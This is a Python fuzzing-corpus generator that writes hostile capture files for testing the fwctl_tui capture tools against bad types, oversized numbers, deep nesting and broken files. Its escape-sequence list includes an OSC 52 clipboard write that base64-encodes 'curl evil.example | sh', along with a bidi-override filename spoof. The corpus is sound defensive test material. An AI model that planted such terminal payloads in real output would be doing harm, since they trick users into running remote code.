"""A corpus of hostile captures: every header and record field wrong, plus broken files.

Captures travel from customers to support to engineers, so every tool must survive what
a stranger's file can hold. Each Case is a file's bytes (or a special file to create)
and the `seq`s of the good records in it, which every tool must keep. Values are chosen
to break what a tool computes with: wrong types, numbers beyond every range (10**400,
Infinity, NaN), deep nesting, blank lines, a BOM, CRLF, terminal escape sequences.

    .venv/bin/python -m tools.hostile.corpus DIR     # write the corpus as files into DIR
"""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from fwctl_tui.captures.format import dumps, exchange_to_record, make_header
from fwctl_tui.exchange import Exchange
from fwctl_tui.uapi import Scope

ACCESS_REG, PPCNT, PPCNT_BYTES = 0x805, 0x5008, 256
# An escape sequence that clears the screen, one that writes the clipboard (OSC 52), a
# C1 CSI, a bidi override and a NUL: what must never reach a terminal raw.
ESCAPES = ("\x1b[2J\x1b[H", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07", "\x9b31m",
           "\u202egnp.exe", "nul\x00byte", "bell\x07", "cr\roverwrite")
DEEP = 5000  # nesting beyond Python's recursion limit


class Raw(str):
    """JSON text put into a line as is (a literal json.dumps would not write)."""


HOSTILE: dict[str, Any] = {
    "null": None, "true": True, "minus_one": -1, "big": 10**30, "huge": 10**400,
    "float_big": 1e30, "inf": float("inf"), "nan": float("nan"), "empty": "",
    "list": [1, 2], "object": {"a": 1}, "escape": ESCAPES[1], "long": "x" * 100_000,
    "deep": Raw("[" * DEEP + "]" * DEEP), "nested_ok": {"a": [{"b": [1]}]},
}

HEADER_KEYS = ("type", "schema", "tool", "tool_version", "created_at", "host",
               "kernel_release", "taint_at_start", "simulated", "allow_list_version",
               "device", "timeline", "redacted")
DEVICE_KEYS = ("kind", "device_type", "fwctl", "dev_node", "pci_bdf", "pci_ids", "driver",
               "netdevs", "firmware_version", "psid", "board", "serial", "info")
RECORD_KEYS = ("type", "seq", "time", "wall_time", "mono_ns", "scope", "scope_value",
               "command", "errno", "errno_name", "out_cap", "out_len", "duration_ns",
               "request", "reply", "detail", "session", "meta")
FATAL_HEADER_KEYS = frozenset({"type", "schema"})  # without them a file is not a capture


@dataclass
class Case:
    """One hostile file: its bytes (or `special`: fifo, directory, dangling), and the
    seqs of the good records every tool must keep (None: not a capture, to be refused)."""

    name: str
    data: bytes = b""
    good: list[int] | None = None
    special: str | None = None

    def write(self, directory: Path) -> Path:
        path = directory / f"{self.name}.jsonl"
        if self.special == "fifo":
            os.mkfifo(path)
        elif self.special == "directory":
            path.mkdir()
        elif self.special == "dangling":
            path.symlink_to(directory / "does-not-exist")
        else:
            path.write_bytes(self.data)
        return path


def request(local_port: int = 1) -> bytes:
    head = ACCESS_REG.to_bytes(2, "big") + bytes(4) + (1).to_bytes(2, "big")
    body = bytearray(PPCNT_BYTES)
    body[1] = local_port
    return head + bytes(2) + PPCNT.to_bytes(2, "big") + bytes(4) + bytes(body)


def reply(step: int) -> bytes:
    body = bytearray(PPCNT_BYTES)
    body[1] = 1
    body[16:24] = (1000 * step + 7).to_bytes(8, "big")
    return bytes(16) + bytes(body)


def header() -> dict[str, Any]:
    device = {"kind": "simulated", "device_type": "mlx5", "fwctl": "sim:cx7",
              "dev_node": None, "pci_bdf": "0000:08:00.0", "pci_ids": "15b3:1021",
              "driver": "mlx5_core", "netdevs": ["eth0"], "firmware_version": "28.39.1002",
              "psid": "MT_0000000838", "board": "ConnectX-7", "serial": "MT2234X00001",
              "info": {"uid": 1, "uctx_caps": 4}}
    return make_header(device, kernel_release="6.18.0", taint_at_start=0, simulated=True,
                       created_at=1_767_225_600.0, host="lab-host", timeline="t" * 32)


def record(seq: int) -> dict[str, Any]:
    exchange = Exchange("ACCESS_REG:PPCNT", Scope.DEBUG_READ_ONLY, request(), 16 + PPCNT_BYTES,
                        reply=reply(seq), out_len=16 + PPCNT_BYTES, duration_ns=9000,
                        wall_time=1_767_225_600.0 + seq, mono_ns=seq * 10**9,
                        session="boot-1")
    return exchange_to_record(exchange, seq)


def line(value: Any) -> bytes:
    """One JSON line; Raw values are spliced in as written."""
    raws: dict[str, str] = {}

    def mark(item: Any) -> Any:
        if isinstance(item, Raw):
            raws[token := f"@@RAW{len(raws)}@@"] = str(item)
            return token
        if isinstance(item, dict):
            return {k: mark(v) for k, v in item.items()}
        if isinstance(item, list):
            return [mark(v) for v in item]
        return item

    text = dumps(mark(value))
    for token, raw in raws.items():
        text = text.replace(json.dumps(token), raw)
    return text.encode("utf-8", "surrogatepass") + b"\n"


def capture(head: Any, records: list[Any], *, sep: bytes = b"") -> bytes:
    return line(head) + sep.join(line(r) for r in records)


def _field_cases(per_key: int | None) -> Iterator[Case]:
    """Each field set to each hostile value, or (per_key=N) to N of them, rotating so
    that every value still meets several fields."""
    labels = list(HOSTILE)
    counter = iter(range(1 << 20))

    def values() -> dict[str, Any]:
        if per_key is None:
            return HOSTILE
        start = next(counter) * per_key
        return {labels[(start + i) % len(labels)]: HOSTILE[labels[(start + i) % len(labels)]]
                for i in range(per_key)}

    for key in HEADER_KEYS:
        for label, value in values().items():
            head = header()
            head[key] = value
            good = None if key in FATAL_HEADER_KEYS or label == "deep" else [1, 2]
            yield Case(f"header-{key}-{label}", capture(head, [record(1), record(2)]), good)
    for key in DEVICE_KEYS:
        for label, value in values().items():
            head = header()
            head["device"][key] = value
            good = None if label == "deep" else [1, 2]  # a header JSON cannot parse: refused
            yield Case(f"device-{key}-{label}", capture(head, [record(1), record(2)]), good)
    for key in RECORD_KEYS:
        for label, value in values().items():
            bad = record(2)
            bad[key] = value
            yield Case(f"record-{key}-{label}",
                       capture(header(), [record(1), bad, record(3)]), [1, 3])


def _escape_cases() -> Iterator[Case]:
    for n, escape in enumerate(ESCAPES):
        head = header()
        head["host"] = head["kernel_release"] = escape
        head["device"].update(fwctl=escape, driver=escape, netdevs=[escape], board=escape)
        bad = record(2)
        bad.update(command=f"ACCESS_REG:PPCNT{escape}", detail=escape, session=escape,
                   time=escape, meta={escape: escape})
        failed = record(3)
        failed.update(errno=5, reply=None, out_len=0, detail=escape)
        yield Case(f"escape-{n}", capture(head, [record(1), bad, failed, f"{escape}junk"]),
                   [1, 2, 3])


def _structure_cases() -> Iterator[Case]:
    good = [record(1), record(2), record(3)]
    body = capture(header(), good)
    yield Case("blank-lines", capture(header(), good, sep=b"\n"), [1, 2, 3])
    yield Case("blank-whitespace-lines", capture(header(), good, sep=b"  \t\r\n\n"), [1, 2, 3])
    yield Case("bom", b"\xef\xbb\xbf" + body, [1, 2, 3])
    yield Case("crlf", body.replace(b"\n", b"\r\n"), [1, 2, 3])
    yield Case("truncated-tail", body + line(record(4))[:40], [1, 2, 3])
    yield Case("no-final-newline", body.rstrip(b"\n"), [1, 2, 3])
    yield Case("nul-bytes", body + b"\x00" * 64 + b"\n" + line(record(4)), [1, 2, 3, 4])
    yield Case("bad-utf8", body + b"\xff\xfe{\"type\":\"rpc\"}\n" + line(record(4)), [1, 2, 3, 4])
    yield Case("deep-record", body + b"[" * DEEP + b"]" * DEEP + b"\n" + line(record(4)),
               [1, 2, 3, 4])
    yield Case("deep-header", b"[" * DEEP + b"]" * DEEP + b"\n" + body)
    yield Case("header-only", line(header()), [])
    yield Case("empty", b"")
    yield Case("binary", bytes(range(256)) * 4)
    yield Case("not-a-dict-lines", body + b"[]\n42\n\"rpc\"\nnull\n" + line(record(4)),
               [1, 2, 3, 4])
    yield Case("duplicate-seqs", capture(header(), [record(1), record(1), record(2)]), [1, 2])
    no_status = record(2)
    no_status.update(reply="", out_len=0)
    short = record(3)
    short.update(reply=reply(3)[:20].hex())
    yield Case("damaged-replies", capture(header(), [record(1), no_status, short]), [1])
    head = header()
    head["device"]["info"] = {"uctx_caps": 10**400, "uid": -1, "mac": 10**40,
                              "uctx_cap_names": [ESCAPES[0]], "serial": {"deep": [[[1]]]}}
    yield Case("info-extremes", capture(head, good), [1, 2, 3])
    yield Case("fifo", special="fifo")
    yield Case("directory", special="directory")
    yield Case("dangling-link", special="dangling")


def cases(full: bool = True) -> list[Case]:
    """The whole corpus, or (full=False) every structural and escape case with each field
    set to two hostile values (all values used, in rotation): the normal suite's set."""
    return [*_structure_cases(), *_escape_cases(), *_field_cases(None if full else 2)]


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python -m tools.hostile.corpus DIR", file=sys.stderr)
        return 2
    directory = Path(argv[0])
    directory.mkdir(parents=True, exist_ok=True)
    for case in cases():
        case.write(directory)
    print(f"{len(cases())} hostile captures in {directory}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
